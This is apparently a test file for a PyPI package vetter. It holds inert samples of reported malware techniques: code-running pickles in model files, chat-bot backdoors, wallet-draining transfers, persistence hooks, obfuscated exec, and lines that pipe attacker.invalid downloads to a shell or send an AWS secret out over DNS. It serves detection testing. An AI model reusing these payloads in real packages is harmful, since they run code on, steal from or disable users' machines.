"""Techniques of malicious PyPI packages that reports of 2023-2026 describe (ADR 0120).

Each sample is inert and only vetted: commands are ``id``, hosts ``attacker.invalid`` or
``example.com``, wallet addresses and account ids made up, and the pickles name ``exec`` of
a harmless string (they are disassembled, never loaded). ``NEW`` was allowed or held on
``9f88751`` and is denied or held since; ``REPORTED`` was already denied there and is kept
as a recall check; ``ALLOWED`` holds the near-misses real packages write."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import io
import json
import lzma
import zipfile
import zlib

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

Files = dict[str, str | bytes]

RUN = "import os\nos.system('id')\n"
B64 = base64.b64encode(RUN.encode()).decode()
HEX = RUN.encode().hex()
# ``builtins.exec('id()')`` as pickle protocol 2, and an ``OrderedDict()`` a state dict is.
EXEC_PICKLE = b"\x80\x02cbuiltins\nexec\nq\x00X\x04\x00\x00\x00id()q\x01\x85q\x02Rq\x03."
STATE_PICKLE = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."
WALLET = "5FjXhJbWjvrzoYFZ2hRrS9d6U6Vh3UTSm6AZN3RNhDXUZ5Pb"

ALIBABA = (
    "https://grabadvice.com/cyber-security/guarding-the-gates-tackling-poisoned-ai-models-in-sdks"
    " (aliyun-ai-labs-snippets-sdk, ReversingLabs 2025)"
)
NAVY_GHOST = "https://appsecuritystandards.org/blog/trojanized-pyrogram-forks-on-pypi (Checkmarx)"
PSSLIB = "https://qian.cx/posts/0447E4DF-3040-46A1-89EC-584D9F3CCD3E (psslib, Socket 2025)"
TELNYX = (
    "https://appsecuritystandards.org/blog/audio-steganography-in-package-attacks-detection-"
    "and-response-guide (telnyx)"
)
TRANSFORMS = (
    "https://www.themoonlight.io/review/one-detector-fits-all-robust-and-adaptive-detection-"
    "of-malicious-packages-from-pypi-to-enterprises"
)
GADGETS = (
    "https://nuxt-hackernews-clone-xvvhang.vercel.app/item/47266286 (pkgutil.resolve_name); "
    "https://arxiv.org/html/2508.19774v1 (loading paths and gadgets)"
)
KERAS = "https://research.jfrog.com/model-threats/keras-lambda (JFrog, CVE-2024-3660)"
BITTENSOR = "https://old.lemdro.id/post/26863909 (GitLab: typosquatted bittensor packages)"


def init(text: str, more: Files | None = None) -> Files:
    """A package whose ``__init__.py`` is ``text``, with ``more`` members."""
    return {"evpkg/__init__.py": text, **(more or {})}


def torch_zip(pickled: bytes, *, method: int = zipfile.ZIP_STORED) -> bytes:
    """What ``torch.save`` writes since PyTorch 1.6: a zip whose ``data.pkl`` is the pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model/data.pkl", pickled, compress_type=method)
        archive.writestr("model/data/0", bytes(64))
        archive.writestr("model/version", "3\n")
    return buffer.getvalue()


def npy(pickled: bytes, descr: str = "'|O'") -> bytes:
    """An ``.npy`` file: numpy's header, then the data (a pickle for an object array)."""
    head = ("{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }").encode()
    head += b" " * (63 - (10 + len(head)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickled


def call_pickle(module: str, name: str, *args: str) -> bytes:
    """A protocol 0 pickle calling ``module.name(*args)`` (disassembled, never loaded)."""
    pushed = "".join("V" + a + "\n" for a in args)
    return f"c{module}\n{name}\n({pushed}tR.".encode()


def keras_zip(layer: dict[str, object]) -> bytes:
    """A Keras 3 ``.keras`` file: a zip whose ``config.json`` lists the layers."""
    config = {"class_name": "Sequential", "config": {"layers": [layer]}}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", '{"keras_version": "3.3.3"}')
    return buffer.getvalue()


# A Lambda layer as Keras saves one: the function's marshalled bytecode, base64'd (made-up
# bytes here: nothing is unmarshalled), and a plain layer.
LAMBDA_LAYER: dict[str, object] = {
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAAAA"}}},
}
DENSE_LAYER: dict[str, object] = {"class_name": "Dense", "config": {"units": 4}}
HDF5 = b"\x89HDF\r\n\x1a\n" + bytes(56)


def npz(member: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("w.npy", member)
    return buffer.getvalue()


def _gz_json(value: object) -> bytes:
    return gzip.compress(json.dumps(value).encode(), mtime=0)


LOADS_MODEL = (
    "import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), 'm.pt'))\n"
)

# Denied since ADR 0120 (allowed on 9f88751).
NEW_DENIED: dict[str, tuple[Files, str]] = {
    # A PyTorch model in torch's zip format whose pickle runs code, loaded on import.
    "torch-zip-model-loaded-on-import": (
        init(LOADS_MODEL, {"evpkg/m.pt": torch_zip(EXEC_PICKLE)}),
        ALIBABA,
    ),
    "torch-zip-model-shipped": (
        {"evpkg/__init__.py": "", "evpkg/pytorch_model.bin": torch_zip(EXEC_PICKLE)},
        ALIBABA,
    ),
    "torch-zip-model-lzma-member": (
        init("", {"evpkg/weights.ckpt": torch_zip(EXEC_PICKLE, method=zipfile.ZIP_LZMA)}),
        ALIBABA,
    ),
    "numpy-object-array-pickle": (
        init(
            "import os, numpy\n"
            "W = numpy.load(os.path.join(os.path.dirname(__file__), 'w.npy'), allow_pickle=True)\n",
            {"evpkg/w.npy": npy(EXEC_PICKLE)},
        ),
        ALIBABA,
    ),
    "numpy-npz-object-array-pickle": (init("", {"evpkg/w.npz": npz(npy(EXEC_PICKLE))}), ALIBABA),
    # A model saved by joblib with compression, and pickles compressed for pandas.
    "joblib-zlib-compressed-model": (
        init(
            "import joblib, os\n"
            "m = joblib.load(os.path.join(os.path.dirname(__file__), 'model.joblib'))\n",
            {"evpkg/model.joblib": zlib.compress(EXEC_PICKLE)},
        ),
        GADGETS + " (joblib's compressed loading path)",
    ),
    "pickle-gzipped-for-pandas": (
        init("", {"evpkg/frame.pkl.gz": gzip.compress(EXEC_PICKLE, mtime=0)}),
        GADGETS,
    ),
    "pickle-bz2": (init("", {"evpkg/frame.pkl.bz2": bz2.compress(EXEC_PICKLE)}), GADGETS),
    "pickle-xz": (init("", {"evpkg/frame.pickle.xz": lzma.compress(EXEC_PICKLE)}), GADGETS),
    # Callables outside the denylisted modules that run code when a pickle calls them.
    "pickle-resolves-os-system-through-pkgutil": (
        init("", {"evpkg/m.pkl": b"cpkgutil\nresolve_name\n(Vos:system\ntR(Vid\ntR."}),
        GADGETS,
    ),
    "pickle-runs-code-through-timeit": (
        init("", {"evpkg/m.pkl": call_pickle("timeit", "timeit", "id()")}),
        GADGETS,
    ),
    "pickle-runs-code-through-numpy-testing": (
        init("", {"evpkg/m.pkl": call_pickle("numpy.testing._private.utils", "runstring", "id()")}),
        GADGETS,
    ),
    "pickle-fetches-a-hub-model": (
        init("", {"evpkg/m.pkl": call_pickle("torch.hub", "load", "attacker/repo", "m")}),
        GADGETS,
    ),
    "pickle-profiles-a-string": (
        init("", {"evpkg/m.pkl": call_pickle("cProfile", "run", "id()")}),
        GADGETS,
    ),
    # A chat library's handler running what the author's accounts send it.
    "telegram-handler-runs-owner-text": (
        {
            "evpkg/__init__.py": "from .dispatcher import Dispatcher\n",
            "evpkg/dispatcher.py": (
                "import subprocess\n"
                "OWNERS = (5012345678, 5098765432)\n"
                "class Dispatcher:\n"
                "    async def handle(self, client, message):\n"
                "        if message.from_user and message.from_user.id in OWNERS:\n"
                "            if message.text.startswith('/e '):\n"
                "                exec(message.text[3:])\n"
                "            elif message.text.startswith('/sh '):\n"
                "                out = subprocess.getoutput(message.text[4:])\n"
                "                await client.send_message(message.chat.id, out)\n"
            ),
        },
        NAVY_GHOST,
    ),
    "telegram-filter-decorator-owner-shell": (
        init(
            "import subprocess\nfrom pyrogram import Client, filters\n"
            "@Client.on_message(filters.user([5012345678]) & filters.command('sh'))\n"
            "async def _sh(client, message):\n"
            "    cmd = message.text.split(None, 1)[1]\n"
            "    out = subprocess.check_output(cmd, shell=True)\n"
            "    await message.reply(out.decode())\n"
        ),
        NAVY_GHOST,
    ),
    "discord-owner-eval-after-early-return": (
        init(
            "OWNER = 912345678901234567\n"
            "async def on_message(message):\n"
            "    if message.author.id != OWNER:\n        return\n"
            "    if message.content.startswith('!py '):\n        exec(message.content[4:])\n"
        ),
        NAVY_GHOST + " (the same gate on Discord)",
    ),
    # A password library's look-alike switching the machine off, on import.
    "shutdown-on-import": (init("import os\nos.system('shutdown /s /t 1')\n"), PSSLIB),
    # A staking call turned into a transfer of the caller's funds to the author's wallet.
    "stake-turned-into-transfer-to-written-wallet": (
        init(
            "from bittensor import subtensor as _st\n"
            f"ATTACKER = '{WALLET}'\n"
            "def add_stake(wallet, hotkey, amount, sub=None):\n"
            "    sub = sub or _st()\n"
            "    return sub.transfer(wallet=wallet, dest=ATTACKER, amount=amount)\n"
        ),
        BITTENSOR,
    ),
    "transfer-to-written-wallet-positional": (
        init(
            "def add_stake(subtensor, wallet, amount):\n"
            f"    return subtensor._do_transfer(wallet, '{WALLET}', amount)\n"
        ),
        BITTENSOR,
    ),
}

# Held since ADR 0120 (allowed on 9f88751): a function that switches the machine off when
# called is read by a person, as a wiper inside a function is.
NEW_HELD: dict[str, tuple[Files, str]] = {
    "shutdown-when-a-password-does-not-match": (
        init(
            "import os, getpass\n"
            "def check():\n"
            "    a = getpass.getpass('Password: ')\n    b = getpass.getpass('Again: ')\n"
            "    if a != b:\n        os.system('shutdown /s /t 1')\n"
        ),
        PSSLIB,
    ),
    "restart-when-called": (
        init("import os\ndef restart():\n    os.system('shutdown /r /t 1')\n"),
        PSSLIB,
    ),
    "systemctl-poweroff-when-called": (
        init("import subprocess\ndef lock():\n    subprocess.run(['systemctl', 'poweroff'])\n"),
        PSSLIB + " (the Linux spelling)",
    ),
    "joblib-compressed-with-lz4": (
        init("", {"evpkg/model.joblib": b"\x04\x22\x4d\x18" + bytes(32)}),
        GADGETS + " (a compression airlock does not read)",
    ),
    "keras-lambda-layer-with-marshalled-code": (
        init(
            "import keras, os\n"
            "m = keras.models.load_model(os.path.join(os.path.dirname(__file__), 'm.keras'),\n"
            "                            safe_mode=False)\n",
            {"evpkg/m.keras": keras_zip(LAMBDA_LAYER)},
        ),
        KERAS,
    ),
    "keras-h5-lambda-layer": (
        init("", {"evpkg/m.h5": HDF5 + json.dumps({"layers": [LAMBDA_LAYER]}).encode()}),
        KERAS + " (the .h5 format)",
    ),
    "transfer-to-written-wallet-not-the-callers": (
        init(f"def tip(sub, amount):\n    return sub.transfer(dest='{WALLET}', amount=amount)\n"),
        BITTENSOR + " (no wallet of the caller handed over)",
    ),
}


# Already denied on 9f88751: kept as a recall check.
REPORTED: dict[str, tuple[Files, str]] = {
    "fullwidth-exec-identifier": (
        init(f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{B64}'))\n"),
        "Phylum/Check Point on NFKC-folded identifiers (onyxproxy, 2023; not in the corpus)",
    ),
    "hex-escaped-import-name": (
        init(
            "xyz = __import__('\\x6F\\x73')\nxyz.system('curl https://attacker.invalid/x | sh')\n"
        ),
        "https://docs.phylum.io/docs/strange_python_imports",
    ),
    "payload-in-gzipped-dictionary-resource": (
        init(
            "import gzip, json, os, base64\n"
            "class SpellChecker:\n"
            "    def __init__(self, language='en'):\n"
            "        p = os.path.join(os.path.dirname(__file__), 'resources', 'eu.json.gz')\n"
            "        with gzip.open(p, 'rt') as f:\n            d = json.load(f)\n"
            "        exec(base64.b64decode(d['spellchecker']['tpcheck']))\n"
            "spell = SpellChecker()\n",
            {
                "evpkg/resources/eu.json.gz": _gz_json(
                    {"kaixo": 1, "spellchecker": {"tpcheck": B64}}
                )
            },
        ),
        "https://thecoderegistry.com/one-wrong-package-name-one-real-business-risk/ (Aikido)",
    ),
    "hex-payload-in-data-file": (
        {
            "evpkg/__init__.py": "from . import setup\n",
            "evpkg/setup.py": (
                "import os\n"
                "with open(os.path.join(os.path.dirname(__file__), 'countdown')) as f:\n"
                "    code = f.read()\n"
                "exec(bytes.fromhex(code).decode())\n"
            ),
            "evpkg/countdown": HEX,
        },
        "https://news.mynavi.jp/techplus/article/20230903-2762624 (VMConnect, ReversingLabs)",
    ),
    "pickle-calls-pip-main": (
        init("", {"evpkg/model.pkl": b"cpip\nmain\n((lp0\nVinstall\naVevpkg-helper\natR."}),
        "https://avd.aquasec.com/nvd/2025/cve-2025-1716",
    ),
    "pickle-broken-after-its-call": (
        init("", {"evpkg/model.pkl": b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R\xff\xfe"}),
        "nullifAI (ReversingLabs 2025, Hugging Face; not in the corpus)",
    ),
    "systemd-user-unit-enabled-on-import": (
        init(
            "import os, subprocess\n"
            "d = os.path.expanduser('~/.config/systemd/user')\n"
            "open(os.path.join(d, 'evsync.service'), 'w').write('[Service]\\nExecStart=/tmp/x')\n"
            "subprocess.run(['systemctl', '--user', 'enable', '--now', 'evsync.service'])\n"
        ),
        TELNYX,
    ),
    "launch-agent-loaded-on-import": (
        init(
            "import os, subprocess\n"
            "p = os.path.expanduser('~/Library/LaunchAgents/com.evpkg.sync.plist')\n"
            "open(p, 'w').write('<plist><dict><key>RunAtLoad</key><true/></dict></plist>')\n"
            "subprocess.run(['launchctl', 'load', p])\n"
        ),
        TELNYX,
    ),
    "jar-downloaded-and-run": (
        init(
            "import os, subprocess, urllib.request\n"
            "p = os.path.join(os.environ.get('TEMP', '/tmp'), 'JavaUpdater.jar')\n"
            "urllib.request.urlretrieve('https://attacker.invalid/JavaUpdater.jar', p)\n"
            "subprocess.Popen(['java', '-jar', p])\n"
        ),
        "https://developer.aliyun.com/article/1641050 (JarkaStealer, Kaspersky 2024)",
    ),
    "requests-wrapped-to-start-a-relay": (
        init(
            "import functools, os, requests\n"
            "def debug(fn):\n"
            "    @functools.wraps(fn)\n"
            "    def w(*a, **k):\n"
            "        os.system('bash -c \"$(curl -fsSL https://gsocket.io/y)\" &')\n"
            "        return fn(*a, **k)\n"
            "    return w\n"
            "requests.get = debug(requests.get)\n"
        ),
        "dbgpkg (Socket 2025; not in the corpus)",
    ),
    "host-mailed-through-gmail-on-import": (
        init(
            "import smtplib, socket, platform\n"
            "s = smtplib.SMTP('smtp.gmail.com', 587)\ns.login('evbot@example.com', 'pw')\n"
            "s.sendmail('evbot@example.com', 'evbot@example.com', socket.gethostname())\n"
        ),
        "https://hackerpranks.com/blog/2001 (coffin-codes, Socket 2025)",
    ),
    "base32-exec": (
        init(
            f"import base64\nexec(base64.b32decode('{base64.b32encode(RUN.encode()).decode()}'))\n"
        ),
        TRANSFORMS,
    ),
    "rot13-exec": (
        init(f"import codecs\nexec(codecs.decode({codecs.encode(RUN, 'rot13')!r}, 'rot13'))\n"),
        TRANSFORMS,
    ),
    "renamed-system-import": (
        init("from os import system as _ssyst\n_ssyst('curl https://attacker.invalid/x | sh')\n"),
        TRANSFORMS,
    ),
    "entry-point-named-pip": (
        {
            "evpkg/__init__.py": (
                "def main():\n    import os\n    os.system('curl https://x.invalid/i | sh')\n"
            ),
            "evpkg-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = evpkg:main\n",
        },
        "https://blog.phylum.io/how-malicious-python-code-gains-execution (executable hooks)",
    ),
    "secret-in-dns-txt-query-on-import": (
        init(
            "import base64, os, dns.resolver\n"
            "k = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n"
            "dns.resolver.resolve(k[:60] + '.x.attacker.invalid', 'TXT')\n"
        ),
        "https://veln.sh/blog/pytorch-torchtriton-dependency-confusion (DNS exfiltration)",
    ),
    "setup-installs-from-another-index": (
        {
            "setup.py": (
                "import os\nos.system('pip install --extra-index-url "
                "https://pypi.attacker.invalid/simple evpkg-core')\n"
                "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n"
            ),
            "evpkg/__init__.py": "",
        },
        "http://pladesign.org/json/78686.json (Checkmarx: code run on pip download)",
    ),
}

ALLOWED: dict[str, Files] = {
    # A state dict saved the ordinary way; plain numbers in an .npy and an .npz.
    "torch-zip-state-dict": init(LOADS_MODEL, {"evpkg/m.pt": torch_zip(STATE_PICKLE)}),
    "numpy-float-array": init(
        "", {"evpkg/w.npy": npy(b"\x80\x02" + bytes(30) + b".", descr="'<f4'")}
    ),
    "numpy-npz-of-floats": init("", {"evpkg/w.npz": npz(npy(bytes(64), descr="'<f8'"))}),
    # A scikit-learn model saved by joblib with compression; a gzipped frame of numbers.
    "joblib-compressed-estimator": init(
        "",
        {
            "evpkg/model.joblib": zlib.compress(
                b"\x80\x02csklearn.linear_model._base\nLinearRegression\nq\x00)\x81q\x01."
            )
        },
    ),
    "gzipped-state-dict-pickle": init(
        "", {"evpkg/state.pkl.gz": gzip.compress(STATE_PICKLE, mtime=0)}
    ),
    "gzipped-csv-beside-a-pickle-name": init("", {"evpkg/data.csv.gz": gzip.compress(b"a,b\n")}),
    # Keras models with plain layers only.
    "keras-model-of-dense-layers": init("", {"evpkg/m.keras": keras_zip(DENSE_LAYER)}),
    "keras-h5-of-dense-layers": init(
        "", {"evpkg/m.h5": HDF5 + json.dumps({"layers": [DENSE_LAYER]}).encode()}
    ),
    # A bot whose admins come from settings; a size limit before a sandbox runs a snippet;
    # a support chat's id checked before a message is forwarded.
    "bot-admins-from-settings": init(
        "import os, subprocess\n"
        "ADMINS = {int(x) for x in os.environ.get('ADMINS', '').split(',') if x}\n"
        "async def shell(client, message):\n"
        "    if message.from_user.id in ADMINS:\n"
        "        out = subprocess.check_output(message.text.split(None, 1)[1], shell=True)\n"
        "        await message.reply(out.decode())\n"
    ),
    "snippet-size-checked-then-run": init(
        "def run_snippet(snippet, ns):\n"
        "    if len(snippet.code) > 10000000:\n        raise ValueError('too big')\n"
        "    exec(snippet.code, ns)\n"
    ),
    "support-chat-id-without-a-run": init(
        "SUPPORT_CHAT = -1001234567890\n"
        "async def forward(client, message):\n"
        "    if message.chat.id == SUPPORT_CHAT:\n"
        "        await client.send_message('me', message.text)\n"
    ),
    # A device rebooted over adb, a notice naming a reboot, a socket shut down.
    "adb-reboots-a-device": init(
        "import subprocess\n"
        "def reboot_device(serial):\n    subprocess.run(['adb', '-s', serial, 'reboot'])\n"
    ),
    "notice-naming-a-reboot": init(
        "import subprocess\n"
        "def note():\n    subprocess.run(['notify-send', 'A reboot is required'])\n"
    ),
    "socket-shutdown": init(
        "import socket\ndef stop(sock):\n    sock.shutdown(socket.SHUT_RDWR)\n    sock.close()\n"
    ),
    # A transfer to the address the caller gives; an address kept as a constant.
    "transfer-to-the-callers-recipient": init(
        "def send(subtensor, wallet, dest, amount):\n"
        "    return subtensor.transfer(wallet=wallet, dest=dest, amount=amount)\n"
    ),
    "address-constant-beside-a-transfer-helper": init(
        "DONATE = '0x52908400098527886E0F7030069857D2E4169EE7'\n"
        "def transfer(token, to, amount):\n"
        "    return token.functions.transfer(to, amount)\n"
    ),
}


def _verdict(files: Files) -> Outcome:
    if "setup.py" in files:
        text = {k: v for k, v in files.items() if isinstance(v, str)}
        return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", text)).verdict
    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", files)).verdict


@pytest.mark.parametrize("name", sorted(NEW_DENIED))
def test_newly_denied(name: str) -> None:
    files, source = NEW_DENIED[name]
    assert _verdict(files) is Outcome.DENY, (name, source)


@pytest.mark.parametrize("name", sorted(NEW_HELD))
def test_newly_held(name: str) -> None:
    files, source = NEW_HELD[name]
    assert _verdict(files) is Outcome.HOLD, (name, source)


@pytest.mark.parametrize("name", sorted(REPORTED))
def test_reported_techniques_stay_denied(name: str) -> None:
    files, source = REPORTED[name]
    assert _verdict(files) is Outcome.DENY, (name, source)


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_near_miss_allowed(name: str) -> None:
    assert _verdict(ALLOWED[name]) is Outcome.ALLOW, name


def test_every_technique_names_its_source() -> None:
    tables = (NEW_DENIED, NEW_HELD, REPORTED)
    assert all(source.strip() for table in tables for _, source in table.values())
    assert sum(len(t) for t in tables) >= 30
